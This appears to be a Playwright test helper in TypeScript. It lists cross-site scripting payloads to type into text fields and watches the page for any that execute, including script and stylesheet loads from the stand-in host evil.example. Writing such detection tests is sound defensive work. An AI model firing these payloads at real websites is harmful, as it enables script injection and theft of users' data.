// What somebody might write where text is expected, and how a browser tells whether any of it was
// taken for something else.
import type { Page } from "@playwright/test";

export const EVIL = "evil.example";

/** Each would call `pwned()` or fetch from the attacker's server where it is taken for markup. */
export const PAYLOADS = [
  `<img src=x onerror=pwned()>`,
  `<svg onload=pwned()>`,
  `<script>pwned()</script>`,
  `"><script src=https://${EVIL}/x.js></script>`,
  `'-pwned()-'`,
  `javascript:pwned()`,
  `[link](javascript:pwned())`,
  `<iframe srcdoc="<script>parent.pwned()</script>">`,
  `<a href="data:text/html,<script>pwned()</script>">x</a>`,
  `</script><script>pwned()</script>`,
  `<style>@import 'https://${EVIL}/x.css';</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=pwned()>`,
  "{{constructor.constructor('pwned()')()}}",
  `\u202e<b onmouseover=pwned()>txet\u202c`,
];
export const ALL_PAYLOADS = PAYLOADS.join(" ");

/** Notes what ran and what left for the attacker's server, in every frame of the page. */
export async function watchPage(page: Page): Promise<() => string[]> {
  const found: string[] = [];
  await page.exposeFunction("pwned", () => found.push("something ran"));
  page.on("dialog", (dialog) => {
    found.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (new URL(request.url()).hostname === EVIL) found.push(`request: ${request.url()}`);
  });
  return () => found;
}
